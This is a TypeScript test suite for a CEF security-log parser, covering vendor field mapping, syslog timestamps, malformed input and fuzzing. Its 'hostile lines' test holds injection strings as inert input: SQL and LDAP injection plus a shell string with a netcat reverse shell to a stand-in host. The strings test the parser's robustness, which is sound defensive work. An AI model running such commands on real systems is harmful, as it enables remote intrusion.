import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { loadDetectors, normalizeRecord, type NormalizeResult } from '../../src/detectors/lib/registry.js';
import { parseCef } from '../../src/detectors/lib/cef.js';
import type { AlertDraft } from '../../src/model/alert.js';
import { finishes, fixtureLine, sampleLine, sampleLines } from './helpers.js';

const registry = await loadDetectors();
const RECEIVED = '2026-01-02T10:00:00.000Z';
const run = (text: string, hint: string | null = 'cef', timeZone?: string): NormalizeResult =>
  normalizeRecord(registry, text, hint, { receivedAt: RECEIVED, timeZone });
function alertOf(text: string, timeZone?: string): AlertDraft {
  const r = run(text, 'cef', timeZone);
  assert.ok('alerts' in r, JSON.stringify(r));
  return r.alerts[0]!;
}
const obs = (a: AlertDraft) => a.observables.map((o) => `${o.type}:${o.value}:${o.role}`);
const trend = (n: number) => sampleLine('cef', 'trend_micro_deep_security.cef', n);
const vaporware = (n: number) => sampleLine('cef', 'elastic_vaporware.cef', n);

test('every sample line parses, auto-detected as cef', () => {
  const lines = sampleLines('cef', '.cef');
  assert.equal(lines.length, 5);
  for (const l of lines) {
    const r = run(l.text, 'auto');
    assert.ok('alerts' in r, `${l.file}:${l.line}: ${JSON.stringify(r)}`);
  }
});

test('Elastic Vaporware "Web request": header, addresses, request URL', () => {
  const a = alertOf(vaporware(1));
  assert.equal(a.title, 'Web request');
  assert.deepEqual(a.rule, { id: '18', name: 'Web request' }); // the signature id alone
  assert.equal(a.event_type, 'Elastic|Vaporware|18'); // vendor and product make it unique across products
  assert.equal(a.severity_label, 'low'); // header severity "low"
  assert.deepEqual(a.vendor_severity?.value, 'low');
  assert.deepEqual(a.src, { ip: '89.160.20.156', port: 33876 });
  assert.deepEqual(a.dst, { ip: '192.168.10.1', port: 443 });
  assert.equal(a.url, 'https://www.example.com/cart');
  assert.equal(a.domain, 'www.example.com');
  assert.equal(a.time, RECEIVED); // the line carries no rt and no syslog header
});

test('Elastic Vaporware "Authentication": both users, file hash by length, oldFileHash ignored', () => {
  const a = alertOf(vaporware(2));
  assert.equal(a.title, 'Authentication');
  assert.deepEqual(a.src, { ip: '89.160.20.156', port: 33876, user: 'bob' });
  assert.deepEqual(a.dst, { ip: '89.160.20.156', port: 443, user: 'alice' });
  assert.equal(a.user, undefined); // two users named: which matters depends on the event
  assert.deepEqual(a.file, { md5: 'bc8bbe52f041fd17318f08a0f73762ce' });
  assert.ok(!obs(a).includes('md5:a9796280592f86b74b27e370662d41eb:file'));
});

test('Trend Micro DSM "User Signed In": severity 3, the one user', () => {
  const a = alertOf(trend(1));
  assert.equal(a.title, 'User Signed In');
  assert.equal(a.rule?.id, '600');
  assert.equal(a.event_type, 'Trend Micro|Deep Security Manager|600');
  assert.equal(a.severity, 30);
  assert.deepEqual(a.vendor_severity, { value: '3', scale: 'cef 0-10 (Low 0-3, Medium 4-6, High 7-8, Very-High 9-10)' });
  assert.deepEqual(a.src, { ip: '10.52.116.160', user: 'admin' });
  assert.deepEqual(a.user, { name: 'admin' });
});

test('Trend Micro DSA firewall log: act=Log, dvchost, MACs, labelled custom fields with spaces', () => {
  const a = alertOf(trend(2));
  assert.equal(a.title, 'Log for TCP Port 80');
  assert.equal(a.rule?.id, '20');
  assert.equal(a.severity, 0);
  assert.equal(a.severity_label, 'info');
  assert.equal(a.action, 'detected');
  assert.deepEqual(a.device, { name: 'hostname' }, 'dvchost: the agent that reported it');
  assert.deepEqual(a.host, { name: 'hostname' }, 'an agent on the machine: its device is the host the event is about');
  assert.deepEqual(a.src, { ip: '192.168.126.150', port: 49617 });
  assert.deepEqual(a.dst, { ip: '81.2.69.192', port: 80 });
  assert.ok(obs(a).includes('mac:00:0c:29:eb:35:de:src'));
  assert.ok(obs(a).includes('mac:00:50:56:f5:7f:47:dst'));
  const ev = parseCef(trend(2));
  assert.equal(ev.labels['Host ID'], '1');
  assert.equal(ev.labels['Fragmentation Bits'], 'DF MF');
  assert.equal(ev.labels['TCP Flags'], '0x00 ACK PSH');
  assert.equal(ev.extension.TrendMicroDsPacketData, 'AFB');
});

test('Trend Micro DSA IPS rule: IDS:Reset is a detection, not a block', () => {
  const a = alertOf(trend(3));
  assert.equal(a.title, 'Test Intrusion Prevention Rule');
  assert.equal(a.rule?.id, '1001111');
  assert.equal(a.action, 'detected');
  assert.deepEqual(a.dst, { ip: '81.2.69.144', port: 80 });
  assert.deepEqual(a.device, { name: 'hostname' });
  assert.equal(parseCef(trend(3)).labels['Intrusion Prevention Flags'], '8');
});

test('Forcepoint NGFW: the labelled RuleID is the rule id, a device name that is an address goes to device.ip', () => {
  const allowed = alertOf(fixtureLine('cef', 'forcepoint_ngfw_smc.log', 3));
  assert.deepEqual(allowed.rule, { id: '2097157.1', name: 'Connection_Allowed' });
  assert.equal(allowed.event_type, 'FORCEPOINT|Firewall|70018');
  assert.deepEqual(allowed.device, { ip: '10.1.1.40', id: 'Master FW node 1' }); // dvchost=10.1.1.40
  assert.equal(allowed.host, undefined, 'the firewall is not the host the event is about');
  assert.equal(allowed.action, 'allowed');
  const discarded = alertOf(fixtureLine('cef', 'forcepoint_ngfw_smc.log', 4));
  assert.deepEqual(discarded.src, { ip: '172.16.1.1', port: 68 });
  assert.deepEqual(discarded.dst, { ip: '89.160.20.156', port: 67 });
  assert.deepEqual(discarded.device, { ip: '10.1.1.10', id: 'Firewall-10 node 1' });
  const login = alertOf(fixtureLine('cef', 'forcepoint_ngfw_smc.log', 7));
  assert.equal(login.rule?.id, '72714'); // no RuleID label: the signature id
  assert.deepEqual(login.user, { name: 'bob' });
  assert.deepEqual(login.device, { ip: '10.1.1.3', id: 'Firewall-3 node 1' });
  // A NAT rule is not the rule that fired.
  assert.equal(alertOf('CEF:0|FORCEPOINT|Firewall|6.6|70018|Connection_Allowed|0|cs2Label=NatRuleID cs2=7.1').rule?.id, '70018');
});

test('Citrix NetScaler WAF: request URL and domain; "not blocked" is a detection', () => {
  const blocked = alertOf(fixtureLine('cef', 'citrix_netscaler.cef', 1));
  assert.equal(blocked.url, 'http://vpx247.example.net/FFC/login.html');
  assert.equal(blocked.domain, 'vpx247.example.net');
  assert.deepEqual(blocked.src, { ip: '10.217.253.78', port: 53743 });
  assert.deepEqual(blocked.rule, { id: 'APPFW', name: 'APPFW_STARTURL' });
  assert.equal(blocked.action, 'blocked');
  const passed = alertOf(fixtureLine('cef', 'citrix_netscaler.cef', 2));
  assert.equal(passed.url, 'http://vpx247.example.net/FFC/login_post.html?abc=def');
  assert.equal(passed.action, 'detected');
});

test('Check Point: NAT-less connection, file hash by length, IPv6 custom addresses; sntdom is the DNS name', () => {
  const accept = alertOf(fixtureLine('cef', 'check_point.cef', 1));
  assert.deepEqual(accept.src, { ip: '192.168.101.100', port: 49363 });
  assert.deepEqual(accept.dst, { ip: '89.160.20.156', port: 443 });
  assert.equal(accept.event_type, 'Check Point|VPN-1 & FireWall-1|Log');
  assert.deepEqual(alertOf(fixtureLine('cef', 'check_point.cef', 2)).file, { sha1: '55f4a511e6f630a6b1319505414f114e7bcaf13d' });
  const drop = alertOf(fixtureLine('cef', 'check_point.cef', 3));
  assert.deepEqual(drop.src, { ip: 'fd00::555' });
  assert.equal(drop.action, 'blocked');
  const threat = alertOf('CEF:0|Check Point|Anti-Virus|Check Point|Virus|Infected file|Very-High|src=10.0.0.5 suser=CORP\\ann sntdom=bad.example.com cs1Label=Threat Prevention Rule Name cs1=Strict AV cs4Label=Threat Prevention Rule ID cs4={AB-12} Sender=a@x.example Recipient=b@corp.example');
  assert.deepEqual(threat.rule, { id: '{AB-12}', name: 'Strict AV' });
  assert.equal(threat.domain, 'bad.example.com');
  assert.deepEqual(threat.user, { name: 'ann', domain: 'CORP' }); // not the DNS name as a domain
  assert.equal(threat.src?.user, 'ann');
  assert.deepEqual(threat.email, { from: 'a@x.example', to: ['b@corp.example'] });
});

test('ArcSight connector (Unix syslog): device process name, destination host, device host name', () => {
  const a = alertOf(fixtureLine('cef', 'arcsight_unix_syslog.cef', 1));
  assert.equal(a.time, '2017-07-18T19:01:01.000Z');
  assert.deepEqual(a.process, { name: 'systemd' });
  assert.deepEqual(a.dst, { host: 'centos7' });
  assert.deepEqual(a.device, { name: 'centos7' });
  assert.equal(a.host, undefined);
  assert.deepEqual(a.user, { name: 'root' });
  assert.equal(a.rule?.id, 'arcsight:143:1');
  const cmd = alertOf('CEF:0|Acme|EDR|1|proc|Process started|5|cs3Label=Command Line cs3=powershell -enc AAA cs5Label=File Path cs5=C:\\t\\a.ps1');
  assert.equal(cmd.process?.command_line, 'powershell -enc AAA');
  assert.equal(cmd.file?.path, 'C:\\t\\a.ps1');
});

test('device fields describe the reporting device: dvchost, dvc, deviceExternalId, dvcmac → device, not host, not indicators', () => {
  const a = alertOf('CEF:0|Acme|NGFW|2.1|ips:100|Exploit blocked|8|src=203.0.113.7 dst=10.0.0.9 dvchost=fw-edge-01 dvc=192.0.2.1 deviceExternalId=FW-SN-0042 dvcmac=00:11:22:33:44:55 act=blocked');
  assert.deepEqual(a.device, { name: 'fw-edge-01', ip: '192.0.2.1', id: 'FW-SN-0042', mac: '00:11:22:33:44:55' });
  assert.equal(a.host, undefined);
  assert.deepEqual(obs(a), ['ip:203.0.113.7:src', 'ip:10.0.0.9:dst'], 'the reporting device is neither looked up nor grouped on');
  // the full key names (deviceHostName, deviceAddress, deviceMacAddress) are the same fields
  const full = alertOf('CEF:0|Acme|NGFW|2.1|ips:100|Exploit blocked|8|src=203.0.113.7 deviceHostName=fw-edge-01 deviceAddress=192.0.2.1 deviceMacAddress=00-11-22-33-44-55');
  assert.deepEqual(full.device, { name: 'fw-edge-01', ip: '192.0.2.1', mac: '00:11:22:33:44:55' });
  // no device fields (Check Point, Citrix): no device
  assert.equal(alertOf(fixtureLine('cef', 'check_point.cef', 1)).device, undefined);
  assert.equal(alertOf(fixtureLine('cef', 'citrix_netscaler.cef', 1)).device, undefined);
});

test('syslog envelopes (RFC 3164 and 5424) are recognised and give the time', () => {
  const rfc3164 = `<134>Dec 31 23:59:59 dsm01 ${trend(1)}`;
  assert.equal(run(rfc3164, 'auto').detector, 'cef');
  assert.equal(alertOf(rfc3164).time, '2025-12-31T23:59:59.000Z'); // year inferred from the received time
  assert.equal(alertOf(rfc3164, 'Europe/Berlin').time, '2025-12-31T22:59:59.000Z');
  const rfc5424 = `<134>1 2024-05-01T10:00:00.5+02:00 dsm01 deepsecurity - - - ${trend(1)}`;
  assert.equal(run(rfc5424, 'auto').detector, 'cef');
  assert.equal(alertOf(rfc5424).time, '2024-05-01T08:00:00.500Z');
});

test('documented keys beyond the samples: rt forms, dtz, full names, words, deviceSeverity, hashes, escapes', () => {
  const line = (ext: string, sev = '8') => `CEF:0|Acme|Gateway|2.1|evt-9|Malware \\| blocked|${sev}|${ext}`;
  const a = alertOf(line('rt=Feb 05 2024 12:00:00 dtz=Europe/Berlin sourceAddress=10.0.0.9 destinationHostName=Evil.Example.com act=blocked fname=inv\\=oice.exe filePath=C:\\\\Users\\\\bob\\\\inv\\=oice.exe fileHash=F610428EBDDF6F8CF9E39322E672583C45FCDCF885EFAD0AB48FD53A3DFC2C4B cs1=313573490192c685e9e53abef25453ed0d5e2aee cs1Label=File SHA1 externalId=abc-123 cat=Malware msg=first\\nsecond sproc=outlook.exe spid=4242'));
  assert.equal(a.title, 'Malware | blocked');
  assert.equal(a.time, '2024-02-05T11:00:00.000Z'); // dtz applies to the zone-less rt
  assert.equal(a.severity, 80);
  assert.equal(a.action, 'blocked');
  assert.equal(a.vendor_id, 'abc-123');
  assert.equal(a.rule?.category, 'Malware');
  assert.deepEqual(a.src, { ip: '10.0.0.9' });
  assert.deepEqual(a.dst, { host: 'Evil.Example.com' });
  assert.deepEqual(a.file, {
    name: 'inv=oice.exe', path: 'C:\\Users\\bob\\inv=oice.exe',
    sha1: '313573490192c685e9e53abef25453ed0d5e2aee', sha256: 'f610428ebddf6f8cf9e39322e672583c45fcdcf885efad0ab48fd53a3dfc2c4b',
  });
  assert.deepEqual(a.process, { name: 'outlook.exe', pid: 4242 });
  assert.ok(obs(a).includes('domain:evil.example.com:dst'));
  assert.equal(alertOf(line('rt=1714557600000')).time, '2024-05-01T10:00:00.000Z');
  assert.equal(alertOf(line('rt=May 01 2024 10:00:00.250 UTC')).time, '2024-05-01T10:00:00.250Z');
  assert.equal(alertOf(line('', 'Very-High')).severity_label, 'critical');
  assert.equal(alertOf(line('deviceSeverity=7', 'Unknown')).severity, 70);
  assert.equal(alertOf(line('', 'bogus')).severity, 40);
  assert.equal(alertOf(line('c6a2=2001:DB8:0:0:0:0:0:1 c6a2Label=Source IPv6 Address')).src?.ip, '2001:db8::1');
  assert.equal(alertOf(`${line('src=10.0.0.1')}\r\n`).src?.ip, '10.0.0.1');
});

const errorOf = (text: string, hint: string | null = 'cef'): string => {
  const r = run(text, hint);
  assert.ok('error' in r, `expected an error, got ${JSON.stringify(r).slice(0, 300)}`);
  return r.error;
};

test('malformed lines give reasons', () => {
  assert.match(errorOf('CEF:0|Trend Micro|Deep Security Agent|1.2.3|20'), /CEF header has 4 of 7 fields/);
  assert.match(errorOf('hello world'), /not a CEF record/);
  assert.equal(errorOf('CEF:0|V|P|1|2|N|5|rt=yesterday'), 'rt: unrecognised timestamp "yesterday"');
  assert.equal(alertOf('CEF:0|V|P|1|2||5|msg=fallback').title, 'fallback'); // empty Name: msg, then vendor/product/id
  assert.equal(alertOf('CEF:0|V|P|1|2||5|').title, 'V P event 2');
  assert.match(errorOf('{"cef":"CEF:0|V|P|1|2|N|5|"}', 'auto'), /no detector recognised this JSON object \(keys: cef\)/);
});

test('hostile lines: 1 MB values, control characters, prototype keys, injection strings', () => {
  const big = alertOf(`CEF:0|V|P|1|2|${'N'.repeat(1_048_576)}|5|msg=${'m'.repeat(1_048_576)} src=10.0.0.1`);
  assert.equal(big.title.length, 4096);
  assert.equal(big.src?.ip, '10.0.0.1');
  const ctl = alertOf('CEF:0|V|P|1|2|Evil\u0000\u001b[2J name\u0085|5|suser=ro\u0007ot\u0000 src=1.2.3.4\u0000');
  assert.equal(ctl.title, 'Evil[2J name');
  assert.equal(ctl.src?.user, 'root');
  assert.equal(ctl.src?.ip, undefined); // "1.2.3.4\0" is not an address: dropped, not repaired
  const proto = alertOf('CEF:0|V|P|1|2|N|5|__proto__=polluted constructor=x prototype=y src=10.0.0.2');
  assert.equal(proto.src?.ip, '10.0.0.2');
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
  for (const s of ["' OR '1'='1'; DROP TABLE alerts;--", '*)(objectClass=*))(&(uid=admin', '$(reboot); `id`; | nc 203.0.113.9 4444 -e /bin/sh']) {
    const a = alertOf(`CEF:0|V|P|1|2|${s.replace(/\\/g, '\\\\').replace(/\|/g, '\\|')}|5|suser=${s.replace(/\\/g, '\\\\').replace(/=/g, '\\=')}`);
    assert.equal(a.title, s);
    assert.equal(a.src?.user, s.trim());
  }
});

test('truncated lines and pathological input neither throw nor hang', () => {
  const line = trend(3);
  for (let cut = 0; cut <= line.length; cut += 5) {
    const r = run(line.slice(0, cut), 'auto');
    assert.ok('error' in r || 'alerts' in r);
  }
  finishes(() => run(`CEF:0|V|P|1|2|N|5|${'a='.repeat(500_000)}`));
  finishes(() => run(`<134>${'Feb 13 '.repeat(100_000)}CEF:0|V|P|1|2|N|5|`, 'auto'));
  finishes(() => run(`CEF:0|${'\\'.repeat(1_000_000)}`));
  finishes(() => run(`CEF:0|V|P|1|2|N|5|rt=${'9'.repeat(1_000_000)}`));
});

test('property: arbitrary text and CEF-looking junk never make parseRecord throw', () => {
  fc.assert(fc.property(fc.string({ maxLength: 300 }), (s) => {
    registry.parseRecord(s, 'cef');
    normalizeRecord(registry, s, 'auto');
    normalizeRecord(registry, `CEF:0|${s}`, 'cef');
  }), { numRuns: 500 });
  const piece = fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom('|', '\\', '\\|', '\\=', '=', ' ', 'src=', 'rt=', 'Label=', 'cs1Label=', '\n', 'CEF:0|'));
  fc.assert(fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
    const r = normalizeRecord(registry, `CEF:0|${parts.join('')}`, 'cef');
    assert.ok('error' in r || 'alerts' in r);
  }), { numRuns: 1000 });
});

test('property: escaped header and extension values round-trip', () => {
  const text = fc.string({ minLength: 1, maxLength: 40 }).filter((s) => s.trim() === s && s.trim() !== '' && !/[\u0000-\u001f\u007f-\u009f]/.test(s));
  const escHeader = (s: string) => s.replace(/\\/g, '\\\\').replace(/\|/g, '\\|');
  const escValue = (s: string) => s.replace(/\\/g, '\\\\').replace(/=/g, '\\=').replace(/\n/g, '\\n').replace(/\r/g, '\\r');
  fc.assert(fc.property(text, text, text, text, fc.integer({ min: 0, max: 10 }), (vendor, name, msg, user, sev) => {
    const line = `CEF:0|${escHeader(vendor)}|Prod|1|sig|${escHeader(name)}|${sev}|msg=${escValue(msg)} suser=${escValue(user)} spt=443`;
    const ev = parseCef(line);
    assert.equal(ev.vendor, vendor);
    assert.equal(ev.name, name);
    assert.equal(ev.severity, String(sev));
    // A value that itself looks like " key=…" is split there by any CEF reader; skip those.
    if (!/\s[A-Za-z0-9_.\-[\]]+=/.test(` ${msg}`) && !/\s[A-Za-z0-9_.\-[\]]+=/.test(` ${user}`)) {
      assert.equal(ev.extension.msg, msg);
      assert.equal(ev.extension.suser, user);
      assert.equal(ev.extension.spt, '443');
      const a = alertOf(line);
      assert.equal(a.severity, sev * 10);
      assert.equal(a.src?.port, 443);
    }
  }), { numRuns: 500 });
});
